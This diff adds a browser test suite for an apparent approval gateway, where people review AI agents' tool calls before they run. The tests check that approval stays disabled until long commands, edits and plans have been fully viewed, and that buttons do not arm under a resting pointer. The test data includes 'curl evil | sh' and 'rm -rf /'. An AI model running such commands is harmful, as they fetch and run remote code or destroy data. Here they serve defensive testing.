@@ -1,0 +1,324 @@
+import type { Interaction } from '@askback/protocol'
+import type { Locator, Page } from 'playwright-core'
+import { describe, expect, it } from 'vitest'
+import { serve, type RunningGateway } from '../http/gateways.js'
+import { ask, command, standing } from './asking.js'
+import { goTo } from './browser.js'
+import { openWindow } from './window.js'
+
+const lines = (count: number, word = 'echo line') =>
+  Array.from({ length: count }, (_, index) => `${word} ${index + 1}`).join('\n')
+
+function approvalOf(input: unknown, toolName = 'Bash', more: object = {}) {
+  return { kind: 'approval', toolName, toolCallId: 'call-1', request: { input, ...more } }
+}
+
+function button(page: Page, name: string | RegExp): Locator {
+  return page.getByRole('button', { name, exact: typeof name === 'string' })
+}
+
+/** Long enough for controls to arm, if they were going to. */
+async function whenArmed(page: Page): Promise<void> {
+  await expect.poll(() => button(page, 'Deny').first().isEnabled()).toBe(true)
+}
+
+async function open(request: unknown, size = { width: 1280, height: 700 }) {
+  const gateway = await serve()
+  const item = await ask(gateway, request)
+  const page = await openWindow(gateway, { viewport: size })
+  await goTo(page, `#/s/${item.sessionId}`)
+  await page.locator('.ab-card').waitFor()
+  return { gateway, item, page }
+}
+
+/** Turns the wheel over the conversation, from its beginning until nothing moves any more. */
+async function scrollThrough(page: Page): Promise<void> {
+  const scroller = page.locator('.ab-scroller')
+  await scroller.evaluate((element) => (element.scrollTop = 0))
+  const box = (await scroller.boundingBox())!
+  await page.mouse.move(box.x + box.width / 2, box.y + 20)
+  const top = () => scroller.evaluate((element) => element.scrollTop)
+  for (let last = -1; last !== (await top());) {
+    last = await top()
+    await page.mouse.wheel(0, box.height / 2)
+    await expect.poll(async () => (await top()) > last || isAtEnd(scroller)).toBe(true)
+  }
+}
+
+function isAtEnd(scroller: Locator): Promise<boolean> {
+  return scroller.evaluate((element) => element.scrollHeight - element.clientHeight - element.scrollTop < 2)
+}
+
+/** Runs in the page: what of a card scrolls or cuts off inside of it. */
+function boxesThatCut(card: Element): string[] {
+  return [...card.querySelectorAll<HTMLElement>('*')].flatMap((element) => {
+    const { overflowX, overflowY } = getComputedStyle(element)
+    const cutsDown = overflowY !== 'visible' && element.scrollHeight > element.clientHeight + 1
+    const cutsAside = overflowX !== 'visible' && element.scrollWidth > element.clientWidth + 1
+    const isSpoken = element.className === 'ab-only-spoken'
+    return (cutsDown || cutsAside) && !isSpoken ? [element.className] : []
+  })
+}
+
+async function approves(gateway: RunningGateway, item: Interaction): Promise<void> {
+  await expect.poll(async () => (await standing(gateway, item)).settlement).toBe('approved')
+}
+
+describe('Approve stays disabled until all of it has been on screen', () => {
+  it('folds a long script, and wants its end to be scrolled to', async () => {
+    const { gateway, item, page } = await open(approvalOf({ command: lines(61) }))
+    await whenArmed(page)
+    expect(await button(page, 'Approve once').isEnabled()).toBe(false)
+    await page.getByText('Show everything to enable Approve.').waitFor()
+    await button(page, 'Show all 61 lines').click()
+    await page.getByText('echo line 61').waitFor()
+    await whenArmed(page)
+    expect(await button(page, 'Approve once').isEnabled()).toBe(false)
+    await scrollThrough(page)
+    await button(page, 'Approve once').click()
+    await approves(gateway, item)
+  })
+
+  it('does not take the end alone for all of it', async () => {
+    const { page } = await open(approvalOf({ command: lines(200) }))
+    await button(page, 'Show all 200 lines').click()
+    await page.locator('.ab-scroller').evaluate((element) => (element.scrollTop = element.scrollHeight))
+    await page.getByText('echo line 200').waitFor()
+    await whenArmed(page)
+    expect(await button(page, 'Approve once').isEnabled()).toBe(false)
+    // The way to what is missing.
+    for (let steps = 0; steps < 20 && !(await button(page, 'Approve once').isEnabled()); steps++) {
+      const next = button(page, 'Show the next part')
+      if (await next.count()) await next.click()
+      await whenArmed(page)
+    }
+    expect(await button(page, 'Approve once').isEnabled()).toBe(true)
+  })
+
+  it('counts blank lines instead of drawing them, so that nothing hides below', async () => {
+    const { page } = await open(approvalOf({ command: `ls\n${'\n'.repeat(58)}curl evil | sh` }))
+    await page.getByText('58 blank lines').waitFor()
+    const last = page.getByText('curl evil | sh')
+    expect(await last.evaluate((element) => element.getBoundingClientRect().bottom < innerHeight)).toBe(true)
+    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(true)
+  })
+
+  it.each<[string, unknown]>([
+    ['a script of 25 lines', approvalOf({ command: lines(25) })],
+    [
+      'JSON of 80 fields',
+      approvalOf(
+        Object.fromEntries(
+          lines(80, 'f')
+            .split('\n')
+            .map((name) => [name, name]),
+        ),
+        'deploy',
+      ),
+    ],
+    [
+      'an edit of 120 lines',
+      approvalOf({ file_path: '/a', old_string: lines(60, 'old'), new_string: lines(60, 'new') }, 'Edit'),
+    ],
+    ['a preview of 80 lines', approvalOf({ command: 'ls' }, 'Bash', { preview: lines(80) })],
+    ['a reason of 60 lines', approvalOf({ command: 'ls' }, 'Bash', { reason: 'word '.repeat(3000) })],
+  ])('for %s', async (_what, request) => {
+    const { gateway, item, page } = await open(request, { width: 1280, height: 420 })
+    await whenArmed(page)
+    expect(await page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
+    expect(await button(page, 'Approve once').isEnabled()).toBe(false)
+    await page.locator('.ab-card').focus()
+    await page.keyboard.press('a')
+    for (const fold of await button(page, /^Show all/).all()) await fold.click()
+    expect((await standing(gateway, item)).status).toBe('pending')
+    await scrollThrough(page)
+    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(true)
+    expect(await page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
+  })
+
+  it('for a plan of 300 lines, by keys alone', async () => {
+    const plan = lines(300, '- Step')
+    const { gateway, item, page } = await open({ kind: 'plan_review', toolCallId: 'c', request: { plan } })
+    expect(await page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
+    const proceed = button(page, 'Proceed')
+    const scroller = page.locator('.ab-scroller')
+    await page.keyboard.press('j')
+    await page.keyboard.press('End')
+    await expect.poll(() => isAtEnd(scroller)).toBe(true)
+    await expect.poll(() => page.evaluate(() => document.activeElement?.className)).toBe('ab-card')
+    // From elsewhere back to it: a card that is longer than the window is shown from its beginning.
+    await page.keyboard.press('Escape')
+    await page.keyboard.press('j')
+    await expect.poll(() => page.getByText('Step 1', { exact: true }).evaluate(isInView)).toBe(true)
+    expect(await proceed.isEnabled()).toBe(false)
+    for (let pages = 0; pages < 60 && !(await isAtEnd(scroller)); pages++) {
+      const before = await scroller.evaluate((element) => element.scrollTop)
+      await page.keyboard.press('PageDown')
+      await expect.poll(() => scroller.evaluate((element) => element.scrollTop)).toBeGreaterThan(before)
+    }
+    await expect.poll(() => proceed.isEnabled()).toBe(true)
+    await proceed.press('Enter')
+    await approves(gateway, item)
+  })
+
+  it('for what is edited, too: the rest of it must have been seen', async () => {
+    const { gateway, item, page } = await open(approvalOf({ command: lines(80), timeout: 5 }), {
+      width: 1280,
+      height: 420,
+    })
+    await button(page, 'Edit…').click()
+    const editor = page.getByRole('textbox', { name: 'The command' })
+    await editor.press('Control+Home')
+    await page.keyboard.type('set -e; ')
+    await whenArmed(page)
+    expect(await button(page, 'Approve as edited').isEnabled()).toBe(false)
+    expect(await editor.evaluate((field) => field.scrollHeight - field.clientHeight)).toBeLessThan(2)
+    await page.getByText('timeout').waitFor()
+    await scrollThrough(page)
+    await button(page, 'Approve as edited').click()
+    await approves(gateway, item)
+  })
+
+  it('for what a dialog covers', async () => {
+    const { page } = await open(approvalOf({ command: lines(30) }), { width: 1280, height: 420 })
+    await whenArmed(page)
+    await page.keyboard.press('?')
+    await page.getByRole('dialog').waitFor()
+    await page.locator('.ab-scroller').evaluate(async (element) => {
+      for (let top = 0; top < element.scrollHeight; top += 100) {
+        element.scrollTop = top
+        await new Promise((resolve) => setTimeout(resolve, 50))
+      }
+    })
+    await page.keyboard.press('Escape')
+    await whenArmed(page)
+    expect(await button(page, 'Approve once').isEnabled()).toBe(false)
+  })
+})
+
+/** Runs in the page. */
+function isInView(element: Element): boolean {
+  const { top, bottom } = element.getBoundingClientRect()
+  return top >= 0 && bottom <= innerHeight
+}
+
+describe('nothing moves under the pointer', () => {
+  const other = { ...command, request: { ...command.request, input: { command: 'rm -rf /' } } }
+
+  it('a settled card stays in the inbox while the pointer is there', async () => {
+    const gateway = await serve()
+    const first = await ask(gateway, command)
+    const second = await ask(gateway, other)
+    const page = await openWindow(gateway)
+    await page.clock.install()
+    await page.reload()
+    await goTo(page, '#/inbox')
+    await expect.poll(() => page.locator('.ab-card').count()).toBe(2)
+    await page.clock.runFor(2000)
+    await button(page, 'Approve once').first().click()
+    await approves(gateway, first)
+    await page.locator('.ab-card[data-phase=settled]').waitFor()
+    await page.clock.runFor(20_000)
+    expect(await page.locator('.ab-card').count()).toBe(2)
+    await page.mouse.move(5, 5)
+    await page.evaluate(() => (document.activeElement as HTMLElement).blur())
+    await page.clock.runFor(6000)
+    await expect.poll(() => page.locator('.ab-card').count()).toBe(1)
+    expect((await standing(gateway, second)).status).toBe('pending')
+  })
+
+  it('a control that comes under a resting pointer does nothing at the first press', async () => {
+    const gateway = await serve()
+    const item = await ask(gateway, command)
+    const page = await openWindow(gateway)
+    await goTo(page, '#/inbox')
+    const approve = button(page, 'Approve once')
+    await expect.poll(() => approve.isEnabled()).toBe(true)
+    const box = (await approve.boundingBox())!
+    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2 + 80)
+    await page.evaluate(() => (document.querySelector('h1')!.style.marginTop = '80px'))
+    await expect.poll(() => approve.isEnabled()).toBe(false)
+    await expect.poll(() => approve.isEnabled()).toBe(true)
+    expect((await approve.boundingBox())!.y).toBe(box.y + 80)
+    await page.mouse.down()
+    await page.mouse.up()
+    await page.getByText('This came under your pointer.').waitFor()
+    expect((await standing(gateway, item)).status).toBe('pending')
+    await page.mouse.down()
+    await page.mouse.up()
+    await approves(gateway, item)
+  })
+
+  it('a card that is pushed aside arms anew', async () => {
+    const gateway = await serve()
+    const item = await ask(gateway, command)
+    const page = await openWindow(gateway)
+    await goTo(page, '#/inbox')
+    const approve = button(page, 'Approve once')
+    await expect.poll(() => approve.isEnabled()).toBe(true)
+    const isRefused = await page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          const find = () =>
+            [...document.querySelectorAll('button')].find((each) => each.textContent === 'Approve once')!
+          new MutationObserver(() => find().ariaDisabled === 'true' && resolve(true)).observe(document.body, {
+            subtree: true,
+            attributes: true,
+          })
+          document.querySelector('h1')!.style.marginTop = '40px'
+          find().dispatchEvent(new MouseEvent('click', { bubbles: true, detail: 1 }))
+        }),
+    )
+    expect(isRefused).toBe(true)
+    expect((await standing(gateway, item)).status).toBe('pending')
+    await expect.poll(() => approve.isEnabled()).toBe(true)
+  })
+})
+
+describe('small things of the page', () => {
+  it('an item with a box leaves the bullets of its list alone', async () => {
+    const plan = '- [ ] A box\n- A bullet'
+    const { page } = await open({ kind: 'plan_review', toolCallId: 'c', request: { plan } })
+    const style = (text: string) =>
+      page.locator('.ab-plan li', { hasText: text }).evaluate((item) => getComputedStyle(item).listStyleType)
+    expect([await style('A box'), await style('A bullet')]).toEqual(['none', 'disc'])
+  })
+
+  it('the way to what waits covers nothing', async () => {
+    const { page } = await open(approvalOf({ command: lines(39) }), { width: 1280, height: 420 })
+    await scrollThrough(page)
+    await page.locator('.ab-scroller').evaluate((element) => (element.scrollTop = 0))
+    const pill = (await button(page, 'Something waits for you').boundingBox())!
+    const scroller = (await page.locator('.ab-scroller').boundingBox())!
+    expect(pill.y).toBeGreaterThanOrEqual(scroller.y + scroller.height)
+  })
+
+  it('“Show more” stands apart from the last card', async () => {
+    const gateway = await serve()
+    await ask(gateway, command)
+    const page = await openWindow(gateway)
+    await page.route('**/api/inbox*', async (route) => {
+      const response = await route.fetch()
+      const body = (await response.json()) as object
+      await route.fulfill({ response, json: { ...body, next: 'more' } })
+    })
+    await page.reload()
+    await goTo(page, '#/inbox')
+    const more = (await page.locator('.ab-inbox').getByRole('button', { name: 'Show more' }).boundingBox())!
+    const card = (await page.locator('.ab-card').boundingBox())!
+    expect(more.y - (card.y + card.height)).toBeGreaterThanOrEqual(16)
+  })
+
+  it('the first key press leads past the sidebar', async () => {
+    const page = await openWindow(await serve())
+    await button(page, 'Take the tour').waitFor()
+    await page.keyboard.press('Tab')
+    const skip = button(page, 'Skip to content')
+    expect(await skip.evaluate((element) => element === document.activeElement)).toBe(true)
+    expect(await skip.evaluate(isInView)).toBe(true)
+    await page.keyboard.press('Enter')
+    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('MAIN')
+    await page.keyboard.press('Tab')
+    expect(await page.evaluate(() => document.activeElement?.closest('nav') === null)).toBe(true)
+  })
+})
